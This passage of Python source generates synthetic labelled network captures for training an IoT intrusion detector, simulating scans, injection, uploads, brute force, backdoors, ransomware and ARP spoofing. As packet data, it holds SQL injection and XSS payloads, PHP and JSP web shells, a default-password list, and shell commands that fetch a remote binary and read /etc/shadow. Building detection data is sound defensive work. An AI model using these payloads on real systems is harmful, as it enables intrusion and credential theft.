        c.close(rng.random() < 0.7)
        t = c.t + rng.expovariate(rate)


def atk_vuln_scan(cap: Capture, site: Site, t: float, n: int) -> None:
    rng = cap.rng
    test = rng.randrange(1000, 9000)
    ua = rng.choice([f"Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:{test:06d})",
                     "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Nuclei - Open-source project",
                     "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
                     "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 21.4.3)", "Wfuzz/3.1.0", "gobuster/3.1.0"])

    def make(rng: random.Random, host: str) -> tuple[str, str, bytes, str | None, list[tuple[str, str]]]:
        p = rng.choice(NIKTO_PATHS)
        if rng.random() < 0.5:
            p = f"/{rng.choice(['old', 'test', 'dev', 'bak', 'admin', 'tmp', 'db', 'data'])}{rng.randrange(100)}" + \
                rng.choice(["/", ".php", ".asp", ".cgi", ".bak", ".sql", ".tar.gz", ".jsp"])
        return rng.choice(["GET", "GET", "GET", "HEAD", "OPTIONS", "PROPFIND", "TRACE"]), p, b"", None, []

    _http_attack(cap, site, t, n, "Vulnerability_scanner", make, [404, 404, 404, 403, 200, 301, 400, 405], ua,
                 rng.uniform(20, 300), (5, 60))


SQLI = ["1' OR '1'='1", "1 AND 1=1", "1 AND 1=2", "1' AND SLEEP(5)-- -", "1 UNION ALL SELECT NULL,NULL,NULL-- -",
        "1') AND (SELECT 7133 FROM(SELECT COUNT(*),CONCAT(0x716b,(SELECT (ELT(7133=7133,1))),0x7170)x)a)-- abcd",
        "-1 UNION SELECT username,password FROM users-- ", "1;DROP TABLE sensors--", "admin'--",
        "1 AND EXTRACTVALUE(1,CONCAT(0x5c,VERSION()))", "1' WAITFOR DELAY '0:0:5'--", "1' ORDER BY 10-- -"]
XSS = ["<script>alert(1)</script>", "\"><script>alert(document.cookie)</script>", "<img src=x onerror=alert(1)>",
       "<svg/onload=alert('xss')>", "javascript:alert(1)", "<body onload=alert(1)>",
       "'\"><iframe src=javascript:alert(1)>", "<ScRiPt>prompt(1)</sCrIpT>", "<details open ontoggle=confirm(1)>"]


def _qenc(s: str, rng: random.Random) -> str:
    from urllib.parse import quote, quote_plus
    return rng.choice([quote, quote_plus])(s, safe="")


def atk_injection(cap: Capture, site: Site, t: float, n: int, label: str) -> None:
    """sqlmap-like or XSS payloads, URL-encoded in query strings or in form/JSON bodies."""
    rng = cap.rng
    payloads = SQLI if label == "SQL_injection" else XSS
    params = ["id", "q", "search", "user", "name", "page", "cat", "comment", "sensor", "item"]
    paths = ["/index.php", "/search", "/product.php", "/login.php", "/api/sensor", "/comments", "/view",
             "/dvwa/vulnerabilities/sqli/"]
    ua = (f"sqlmap/1.{rng.randint(4, 7)}.{rng.randint(1, 12)}#stable (https://sqlmap.org)"
          if label == "SQL_injection" and rng.random() < 0.5 else rng.choice(BROWSER_UAS))

    def make(rng: random.Random, host: str) -> tuple[str, str, bytes, str | None, list[tuple[str, str]]]:
        p = rng.choice(payloads)
        if rng.random() < 0.3:
            p = p.replace(" ", rng.choice(["/**/", "%20", "+"])) if label == "SQL_injection" else p.upper()
        name = rng.choice(params)
        if rng.random() < 0.6:
            q = f"{name}={_qenc(p, rng)}"
            if rng.random() < 0.5:
                q += f"&Submit=Submit&{rng.choice(params)}={rng.randrange(100)}"
            return "GET", f"{rng.choice(paths)}?{q}", b"", None, []
        if rng.random() < 0.7:
            return "POST", rng.choice(paths), f"{name}={_qenc(p, rng)}&submit=1".encode(), None, []
        return "POST", rng.choice(paths), json.dumps({name: p}).encode(), "application/json", []

    _http_attack(cap, site, t, n, label, make, [200, 200, 500, 302, 403], ua, rng.uniform(2, 50), (1, 30))


def atk_upload(cap: Capture, site: Site, t: float, n: int) -> None:
    """Multipart uploads of web shells, scripts and binaries to upload forms."""
    rng = cap.rng

    def make(rng: random.Random, host: str) -> tuple[str, str, bytes, str | None, list[tuple[str, str]]]:
        boundary = rng.choice(["----WebKitFormBoundary", "---------------------------", "----formdata-"]) + \
            "".join(rng.choice("0123456789abcdefABCDEF") for _ in range(16))
        fname, ftype, data = rng.choice([
            ("shell.php", "application/x-php", b"<?php system($_GET['cmd']); ?>"),
            ("cmd.jsp", "application/octet-stream", b"<%@ page import=\"java.io.*\" %><% Runtime.getRuntime().exec("
             b"request.getParameter(\"c\")); %>"),
            ("image.php.jpg", "image/jpeg", b"\xff\xd8\xff\xe0<?php eval($_POST['x']); ?>"),
            ("update.bin", "application/octet-stream", b""), ("payload.sh", "text/x-sh", b"#!/bin/sh\nwget http://"),
            ("report.pdf", "application/pdf", b"%PDF-1.4\n")])
        data = data + rng.randbytes(rng.choice([0, 200, 2000, 20000, 60000]))
        field_name = rng.choice(["file", "uploaded", "upload"])
        head = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"{field_name}\"; filename=\"{fname}\"\r\n"
                f"Content-Type: {ftype}\r\n\r\n")
        tail = (f"\r\n--{boundary}\r\nContent-Disposition: form-data; name=\"Upload\"\r\n\r\n"
                f"Upload\r\n--{boundary}--\r\n")
        body = head.encode() + data + tail.encode()
        return "POST", rng.choice(["/upload", "/upload.php", "/dvwa/vulnerabilities/upload/", "/api/files",
                                   "/admin/firmware"]), body, f"multipart/form-data; boundary={boundary}", []

    _http_attack(cap, site, t, n, "Uploading", make, [200, 201, 200, 413, 500], rng.choice(BROWSER_UAS),
                 rng.uniform(0.5, 10), (1, 4))


PASSWORDS = ["123456", "password", "admin", "root", "12345678", "qwerty", "letmein", "toor", "changeme", "iot",
             "raspberry", "default", "admin123", "P@ssw0rd", "1234", "guest", "user", "mosquitto", "modbus"]


def atk_password(cap: Capture, site: Site, t: float, n: int, label: str = "Password") -> None:
    """hydra/medusa-style brute force against HTTP login, MQTT CONNECT, SSH and Telnet."""
    rng = cap.rng
    a = _source(site, rng)
    target = rng.choice(["http", "mqtt", "ssh", "telnet"])
    users = rng.sample(["admin", "root", "user", "pi", "operator", "iot", "test"], k=rng.randint(1, 3))
    count = len(cap.frames)
    while len(cap.frames) - count < n:
        u, pw = rng.choice(users), rng.choice(PASSWORDS) + (str(rng.randrange(100)) if rng.random() < 0.5 else "")
        if target == "http":
            host = site.web.addr
            c = Tcp(cap, label, a, site.web, site.http_port, t, rtt(site, a, site.web))
            c.open()
            for _ in range(rng.randint(1, 5)):
                body = f"username={u}&password={pw}&Login=Login".encode()
                c.exchange(http_request(rng, "POST", host, rng.choice(["/login", "/login.php", "/api/auth"]),
                                        rng.choice(["Mozilla/5.0 (Hydra)", *BROWSER_UAS]), body),
                           http_response(rng, rng.choice([200, 401, 302]), b"Login failed", "text/html", "nginx"),
                           rng.uniform(0.005, 0.1))
                u, pw = rng.choice(users), rng.choice(PASSWORDS)
            c.close(True)
        elif target == "mqtt":
            c = Tcp(cap, label, a, site.broker, 1883, t, rtt(site, a, site.broker))
            c.open()
            cid = rng.choice(["", f"hydra{rng.randrange(999)}", "mqtt-brute"])
            c.exchange(mqtt_connect(cid, 60, True, True, u, pw),
                       mqtt(0x20, b"\x00" + bytes((rng.choice([4, 5, 5]),))), 0.002)
            c.close(False)
        elif target == "ssh":
            srv = rng.choice([site.broker, site.web, *site.plcs])
            c = Tcp(cap, label, a, srv, 22, t, rtt(site, a, srv))
            if c.open():
                c.send(False, b"SSH-2.0-OpenSSH_8.2p1 Ubuntu-4ubuntu0.5\r\n")
                c.send(True, rng.choice([b"SSH-2.0-libssh_0.9.6\r\n", b"SSH-2.0-OpenSSH_7.4\r\n",
                                         b"SSH-2.0-Go\r\n"]))
                c.send(True, rng.randbytes(rng.randint(900, 1500)))
                c.send(False, rng.randbytes(rng.randint(1000, 1100)))
                for _ in range(rng.randint(1, 3)):
                    c.send(True, rng.randbytes(rng.choice([48, 64, 80, 96])))
                    c.send(False, rng.randbytes(rng.choice([28, 44, 52])))
                c.close(rng.random() < 0.5)
        else:
            srv = rng.choice([*site.plcs, site.gw])
            c = Tcp(cap, label, a, srv, 23, t, rtt(site, a, srv))
            c.open()
            c.send(False, b"\xff\xfd\x18\xff\xfd\x20\xff\xfd\x23\xff\xfd\x27")
            c.send(True, b"\xff\xfc\x18\xff\xfc\x20\xff\xfc\x23\xff\xfc\x27")
            for _ in range(rng.randint(1, 3)):
                c.send(False, b"\r\nlogin: ")
                c.send(True, u.encode() + b"\r\n")
                c.send(False, b"Password: ")
                c.send(True, pw.encode() + b"\r\n")
                c.t += rng.uniform(1, 3)
                c.send(False, b"\r\nLogin incorrect\r\n")
            c.close(False)
        t = c.t + rng.expovariate(rng.uniform(2, 30))


def atk_backdoor(cap: Capture, site: Site, t: float, n: int, label: str = "Backdoor") -> None:
    """Reverse and bind shells on unusual ports, and a beacon calling home with jitter."""
    rng = cap.rng
    victim = rng.choice([site.broker, site.web, *site.sensors, site.hmi])
    c2 = site.ext_attacker if rng.random() < 0.6 else site.attacker
    mode = rng.choice(["reverse", "bind", "beacon"])
    port = rng.choice([4444, 4445, 1337, 31337, 6666, 9001, 8443, 5555, 12345, rng.randint(1025, 65535)])
    cmds = [b"id", b"uname -a", b"whoami", b"cat /etc/passwd", b"ls -la /", b"ps aux", b"ifconfig",
            b"netstat -antp", b"wget http://x/bot -O /tmp/.x", b"chmod +x /tmp/.x", b"crontab -l", b"cat /etc/shadow"]
    count = len(cap.frames)
    if mode in ("reverse", "bind"):
        cli, srv = (victim, c2) if mode == "reverse" else (c2, victim)
        c = Tcp(cap, label, cli, srv, port, t, rtt(site, cli, srv))
        c.open()
        shell_side = mode == "reverse"  # the victim's side: client in a reverse shell, server in a bind shell
        c.send(shell_side, rng.choice([b"$ ", b"sh-4.4$ ", b"bash: no job control in this shell\n# ", b"# "]))
        while len(cap.frames) - count < n:
            c.t += rng.uniform(0.5, 8)
            c.send(not shell_side, rng.choice(cmds) + b"\n")
            c.t += rng.uniform(0.01, 0.3)
            c.send(shell_side, _entropy_text(rng, rng.randint(10, 4000)) + b"\n# ")
        c.close(not shell_side)
    else:
        interval = rng.uniform(5, 60)
        while len(cap.frames) - count < n:
            c = Tcp(cap, label, victim, c2, port if rng.random() < 0.5 else rng.choice([80, 443, 8080]), t,
                    rtt(site, victim, c2))
            c.open()
            blob = base64.b64encode(rng.randbytes(rng.randint(16, 200))).decode()
            c.exchange(http_request(rng, "POST", c2.addr, rng.choice(["/submit.php", "/gate", "/api/v2/ping", "/"]),
                                    rng.choice(BROWSER_UAS), f"id={rng.randrange(10**8)}&d={blob}".encode()),
                       http_response(rng, 200, base64.b64encode(rng.randbytes(rng.randint(0, 60))), "text/plain",
                                     "nginx"), rng.uniform(0.01, 0.2))
            c.close(True)
            t += interval * rng.uniform(0.8, 1.2)


def _smb2(cmd: int, body: bytes, mid: int, tree: int, sess: int, resp: bool) -> bytes:
    hdr = (b"\xfeSMB" + struct.pack("<HHIHHII", 64, 0, 0, cmd, 1, 1 if resp else 0, 0) + struct.pack(
        "<QIIQ", mid, 0xFEFF, tree, sess) + b"\0" * 16)
    msg = hdr + body
    return struct.pack("!I", len(msg)) + msg  # NetBIOS session header


def smb_session(c: Tcp, rng: random.Random, share: str, setup_len: int) -> tuple[int, int, int]:
    """SMB2 NEGOTIATE, SESSION_SETUP (``setup_len`` bytes of security blob) and TREE_CONNECT to ``share``;
    returns (the last message id used, tree id, session id)."""
    sess = rng.getrandbits(64)
    tree = rng.randrange(1, 16)
    c.exchange(_smb2(0, b"\x24\x00" + rng.randbytes(34), 0, 0, 0, False),
               _smb2(0, b"\x41\x00" + rng.randbytes(126), 0, 0, 0, True), 0.001)
    c.exchange(_smb2(1, b"\x19\x00" + rng.randbytes(setup_len), 1, 0, 0, False),
               _smb2(1, b"\x09\x00" + rng.randbytes(8), 1, 0, sess, True), 0.005)
    c.exchange(_smb2(3, b"\x09\x00\x00\x00\x48\x00" + share.encode("utf-16-le"), 2, 0, sess, False),
               _smb2(3, b"\x10\x00" + rng.randbytes(14), 2, tree, sess, True), 0.002)
    return 2, tree, sess


def smb_read(c: Tcp, rng: random.Random, ids: tuple[int, int, int], n: int,
             fill: Callable[[random.Random, int], bytes] = random.Random.randbytes, think: float = 0.0) -> None:
    """SMB2 READ of ``n`` bytes (``fill(rng, n)``) with message, tree and session ``ids``: the request,
    ``think`` seconds, then the response the client ACKs as it comes."""
    mid, tree, sess = ids
    c.send(True, _smb2(8, b"\x31\x00" + rng.randbytes(46), mid, tree, sess, False), ack=False)
    c.t += think
    c.send(False, _smb2(8, b"\x11\x00" + rng.randbytes(14) + fill(rng, n), mid, tree, sess, True))


def smb_write(c: Tcp, rng: random.Random, ids: tuple[int, int, int], n: int, think: float = 0.0) -> None:
    """SMB2 WRITE of ``n`` random bytes: the request the server ACKs as it comes, ``think`` seconds,
    then the response."""
    mid, tree, sess = ids
    c.send(True, _smb2(9, b"\x31\x00" + rng.randbytes(46) + rng.randbytes(n), mid, tree, sess, False))
    c.t += think
    c.send(False, _smb2(9, b"\x11\x00" + rng.randbytes(14), mid, tree, sess, True), ack=False)


def atk_ransomware(cap: Capture, site: Site, t: float, n: int, label: str = "Ransomware") -> None:
    """An infected host reads files over SMB and writes them back encrypted: bulk high-entropy reads and
    writes of each file in turn (a benign copy moves bytes one way), acknowledged as TCP does."""
    rng = cap.rng
    victim = rng.choice([site.hmi, *site.clients, site.web])
    infected = site.attacker if rng.random() < 0.7 else rng.choice(site.clients)
    if infected is victim:
        infected = site.attacker
    c = Tcp(cap, label, infected, victim, 445, t, site.rtt_lan)
    c.open()
    mid, tree, sess = smb_session(c, rng, "\\\\srv\\share", 200)
    count = len(cap.frames)
    ext = rng.choice([".locked", ".enc", ".crypt", ".WNCRY", ".lockbit"])
    while len(cap.frames) - count < n:
        mid += 1
        name = f"{rng.choice(['report', 'plc_backup', 'recipe', 'config', 'log', 'hist'])}{rng.randrange(999)}"
        c.exchange(_smb2(5, b"\x39\x00" + rng.randbytes(54) + (name + ".xlsx").encode("utf-16-le"), mid, tree, sess,
                         False), _smb2(5, b"\x59\x00" + rng.randbytes(86), mid, tree, sess, True), 0.001)
        size = rng.choice([4096, 16384, 65536, 131072])
        mid += 1
        smb_read(c, rng, (mid, tree, sess), size, _entropy_text, think=0.002)
        mid += 1
        smb_write(c, rng, (mid, tree, sess), size + 16, think=0.002)
        mid += 1
        c.exchange(_smb2(5, b"\x39\x00" + rng.randbytes(54) + (name + ext).encode("utf-16-le"), mid, tree, sess,
                         False), _smb2(5, b"\x59\x00" + rng.randbytes(86), mid, tree, sess, True), 0.001)
        c.t += rng.uniform(0.001, 0.05)
    c.close(True)


def atk_mitm(cap: Capture, site: Site, t: float, n: int, label: str = "MITM") -> None:
    """arpspoof/ettercap: forged ARP replies poisoning victim and gateway, relayed traffic, forged DNS answers."""
    rng = cap.rng
    a = site.attacker
    victim = rng.choice([*site.sensors, site.hmi, *site.clients, *site.plcs])
    peer = rng.choice([site.gw, site.broker]) if victim is not site.broker else site.gw
    interval = rng.choice([1.0, 2.0, 10.0]) * rng.uniform(0.9, 1.1) if rng.random() < 0.7 else rng.uniform(0.05, 0.3)
    dns_spoof = rng.random() < 0.5
    count = len(cap.frames)
    while len(cap.frames) - count < n:
        op = 2 if rng.random() < 0.9 else 1  # some tools poison with requests
        cap.arp(t, label, op, a.mac, peer.ip, victim.mac if op == 2 else b"\0" * 6, victim.ip,
                eth_dst=victim.mac)
        cap.arp(t + 0.0002, label, op, a.mac, victim.ip, peer.mac if op == 2 else b"\0" * 6, peer.ip,
                eth_dst=peer.mac)
        # traffic the victim now sends to the attacker's MAC, relayed by the attacker to the real peer
        for _ in range(rng.randint(0, 3)):
            tt = t + rng.uniform(0, interval)
            payload = rng.choice([mqtt_publish("x/y", b"21.5", 0, 0), b"", _entropy_text(rng, 200)])
            sport, dport = victim.port(rng), rng.choice([1883, 80, 502, 443])
            seg = wire.tcp(victim.ip, peer.ip, sport, dport, rng.getrandbits(32), rng.getrandbits(32), ACK | PSH,
                           victim.os.window, b"", payload)
            ident = victim.ident(rng)
            # labelled NORMAL: on the wire it is the victim's own traffic (only the MACs, which no column
            # holds, show the detour); labelled MITM it would teach "data without a handshake = MITM"
            cap.ip(tt, NORMAL, victim, peer, wire.PROTO_TCP, seg, eth_dst=a.mac, ident=ident)
            cap.ip(tt + 0.0003, NORMAL, victim, peer, wire.PROTO_TCP, seg, eth_src=a.mac, eth_dst=peer.mac,
                   ttl=victim.ttl - (1 if rng.random() < 0.5 else 0), ident=ident)
        if dns_spoof and rng.random() < 0.5:
            tt = t + rng.uniform(0, interval)
            qid, name = rng.randrange(65536), rng.choice([f"broker.{site.domain}", "update.vendor.com",
                                                          "login.example.com", f"hmi.{site.domain}"])
            sport = victim.port(rng)
            cap.udp(tt, label, victim, site.dns, sport, 53, dns_query(qid, name), eth_dst=a.mac)
            cap.udp(tt + 0.0002, label, site.dns, victim, 53, sport, dns_answer(qid, name, 1, [a.ip], 60),
                    eth_src=a.mac)
            cap.udp(tt + rng.uniform(0.002, 0.03), label, site.dns, victim, 53, sport,
                    dns_answer(qid, name, 1, [site.broker.ip if site.domain in name else public_ip(rng)], 300))
        t += interval


ATTACK_FUNCS: dict[str, tuple[Callable[..., None], int]] = {
    # class -> (generator, frames per episode at scale 1)
    "DDoS_TCP": (atk_ddos_tcp, 6000),
    "DDoS_UDP": (atk_ddos_udp, 6000),
    "DDoS_ICMP": (atk_ddos_icmp, 5000),
    "DDoS_HTTP": (atk_ddos_http, 3000),
    "Port_Scanning": (atk_port_scan, 2500),
    "Fingerprinting": (atk_fingerprint, 600),
    "Vulnerability_scanner": (atk_vuln_scan, 3000),
    "SQL_injection": (lambda c, s, t, n: atk_injection(c, s, t, n, "SQL_injection"), 2000),
    "XSS": (lambda c, s, t, n: atk_injection(c, s, t, n, "XSS"), 1500),
    "Uploading": (atk_upload, 1500),
    "Password": (atk_password, 2000),
    "Backdoor": (atk_backdoor, 800),
    "Ransomware": (atk_ransomware, 2500),
    "MITM": (atk_mitm, 400),
}


@dataclass
class SessionResult:
    """One capture session: its frames sorted by time, their labels, and its site plan."""

    name: str
    frames: list[tuple[float, bytes]]
    labels: list[str]
    site: dict[str, Any]
    start: float
    episodes: list[dict[str, Any]]


def generate_session(seed: int, index: int, scale: float = 1.0, plant_floor: bool = False) -> SessionResult:
    """One capture session of benign traffic with every attack interleaved as an episode.

    Bulk transfers and SSH administration (:func:`trainer.lab.everyday.add_admin_and_transfers`) and,
    with ``plant_floor``, :mod:`trainer.lab.plant_floor` traffic are each drawn from their own random
    stream after the attacks, so adding one leaves every other frame of the session as it was."""
    rng = random.Random(f"edge-ids-lab-ethernet/{seed}/{index}")
    cap = Capture(rng, pad_short=rng.random() < 0.5,
                  offload=random.Random(f"edge-ids-lab-ethernet/{seed}/{index}/offload").random() < 0.5)
    site = make_site(rng)
    start = rng.uniform(1.55e9, 1.75e9)  # 2019 .. 2025
    duration = max(120.0, 1800.0 * scale) * rng.uniform(0.8, 1.2)  # attacks are episodes in mostly benign time
    t0, t1 = start, start + duration
    # the benign traffic began before the capture did: long-lived connections are caught mid-stream,
    # without their handshakes, as on any real capture
    lead = rng.uniform(20.0, 120.0)
    normal_infra(cap, site, t0 - lead, t1)
    normal_mqtt(cap, site, t0 - lead, t1)
    normal_modbus(cap, site, t0 - lead, t1)
    normal_http(cap, site, t0 - lead, t1)
    from trainer.lab.everyday import add_everyday  # imports this module: not at the top

    add_everyday(cap, site, t0 - lead, t1)
    order = list(ATTACKS)
    rng.shuffle(order)
    slot = duration / (len(order) + 1)
    episodes = []
    spans: list[tuple[float, float]] = []  # each episode's first and last frame time
    for i, cls in enumerate(order):
        func, base = ATTACK_FUNCS[cls]
        n = max(20, int(base * scale * rng.uniform(0.6, 1.4)))
        at = t0 + slot * (i + 0.5) + rng.uniform(0, slot * 0.5)
        before = len(cap.frames)
        func(cap, site, at, n)
        added = cap.frames[before:]
        episodes.append({"class": cls, "start": at - start, "frames": sum(1 for f in added if f[3] == cls)})
        spans.append((min(f[0] for f in added), max(f[0] for f in added)))
    from trainer.lab.everyday import add_admin_and_transfers

    streams: list[tuple[str, Callable[[Capture, Site, float, float], None]]] = [
        ("transfers", add_admin_and_transfers)]
    if plant_floor:
        from trainer.lab.plant_floor import add_plant_floor

        streams.append(("plant-floor", add_plant_floor))
    for name, add in streams:  # each from its own random stream: the frames above stay as they were
        extra = Capture(random.Random(f"edge-ids-lab-ethernet/{seed}/{index}/{name}"), cap.pad_short, cap.offload)
        add(extra, site, t0 - lead, t1)
        for ts, _, data, label in extra.frames:
            cap.add(ts, data, label)
    gaps = _capture_gaps(rng, spans, t0, t1)
    cap.frames = [f for f in cap.frames if f[0] >= t0 and not _in_gaps(f[0], gaps)]
    cap.frames.sort(key=lambda f: (f[0], f[1]))
    frames = [(ts, data) for ts, _, data, _ in cap.frames]
    return SessionResult(f"capture{index:02d}", frames, [f[3] for f in cap.frames], site.describe(), start, episodes)


def _capture_gaps(rng: random.Random, spans: list[tuple[float, float]], t0: float, t1: float
                  ) -> list[tuple[float, float]]:
    """Up to three stretches of benign-only time the capture missed (ring buffers that rotated, a
    capture restarted, sampled traces): after a gap, conversations resume mid-stream at low rate."""
    if rng.random() < 0.5:
        return []
    busy = sorted(spans)
    gaps: list[tuple[float, float]] = []
    for _ in range(rng.randint(1, 3)):
        g0 = rng.uniform(t0, t1)
        g1 = g0 + rng.uniform(5.0, 150.0)
        if all(g1 < b0 - 1.0 or g0 > b1 + 1.0 for b0, b1 in busy):
            gaps.append((g0, g1))
    return gaps


def _in_gaps(ts: float, gaps: list[tuple[float, float]]) -> bool:
    return any(g0 <= ts < g1 for g0, g1 in gaps)


# --- writing ---------------------------------------------------------------------------------------
LABEL_HEADER = ("frame", "Attack_label", "Attack_type", "session")


def write_sessions(out: str | os.PathLike[str], seed: int, scale: float = 1.0, sessions: int = 6,
                   published_csv: bool = True, plant_floor: bool = False) -> dict[str, Any]:
    """Write ``<capture>.pcap`` + ``<capture>.labels.csv`` per capture session, ``sessions.json``, and,
    when the project's Edge-IIoTset extractor is importable, ``<capture>.csv`` in the published schema.

    Frame numbers in the labels are 1-based, as tshark's ``frame.number``. Returns the manifest that is
    also written to ``sessions.json``.
    """
    root = Path(out)
    root.mkdir(parents=True, exist_ok=True)
    extractor_factory = _edge_extractor() if published_csv else None
    manifest: dict[str, Any] = {"kind": "ethernet", "seed": seed, "scale": scale, "classes": list(CLASSES),
                                "published_csv": extractor_factory is not None, "plant_floor": plant_floor,
                                "sessions": []}
    for i in range(sessions):
        res = generate_session(seed, i, scale, plant_floor)
        with open(root / f"{res.name}.pcap", "wb") as fh:
            wire.write_pcap(fh, res.frames)
        with open(root / f"{res.name}.labels.csv", "w", newline="") as fh:
            w = csv.writer(fh, lineterminator="\n")
            w.writerow(LABEL_HEADER)
            for k, lab in enumerate(res.labels, 1):
                w.writerow((k, 0 if lab == NORMAL else 1, lab, res.name))
        if extractor_factory is not None:
            write_published_csv(root / f"{res.name}.csv", res, extractor_factory())
        counts: dict[str, int] = {}
        for lab in res.labels:
            counts[lab] = counts.get(lab, 0) + 1
        manifest["sessions"].append({"name": res.name, "frames": len(res.frames), "counts": counts,
                                     "hosts": res.site, "episodes": res.episodes})
    (root / "sessions.json").write_text(json.dumps(manifest, indent=1, sort_keys=True) + "\n")
    return manifest


def _edge_extractor() -> Callable[[], Any] | None:
    """The project's Edge-IIoTset extractor factory, or None while it is not part of the checkout."""
    try:
        from agent.config import FeaturesConfig
        from agent.features import FEATURE_KINDS
        cls = FEATURE_KINDS.load("edge-iiotset")
    except (ImportError, AttributeError) as exc:
        log.warning("Edge-IIoTset extractor not available (%s): published-schema CSVs not written", exc)
        return None
    return lambda: cls.from_config(FeaturesConfig(kind="edge-iiotset"))


def write_published_csv(path: Path, res: SessionResult, extractor: Any) -> None:
    """The session's frames through the agent's own feature code, as the 63 published columns."""
    from agent.records import Frame
    records = (Frame(ts, data, 1, len(data)) for ts, data in res.frames)
    with open(path, "w", newline="") as fh:
        w = csv.writer(fh, lineterminator="\n")
        w.writerow([*extractor.columns, "Attack_label", "Attack_type"])
        for row, lab in zip(extractor.rows(records), res.labels, strict=True):
            w.writerow([*row, 0 if lab == NORMAL else 1, lab])
